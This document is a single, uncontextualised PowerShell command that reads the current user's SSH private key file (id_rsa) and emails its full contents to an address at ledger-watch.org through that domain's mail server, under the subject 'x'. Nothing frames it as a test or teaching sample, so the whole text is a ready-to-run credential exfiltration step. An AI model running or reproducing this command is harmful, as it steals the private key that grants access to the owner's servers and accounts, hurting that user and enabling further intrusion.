Send-MailMessage -To "b@ledger-watch.org" -From "a@ledger-watch.org" -SmtpServer "mail.ledger-watch.org" -Subject x -Body (Get-Content "$env:USERPROFILE\.ssh\id_rsa" -Raw)
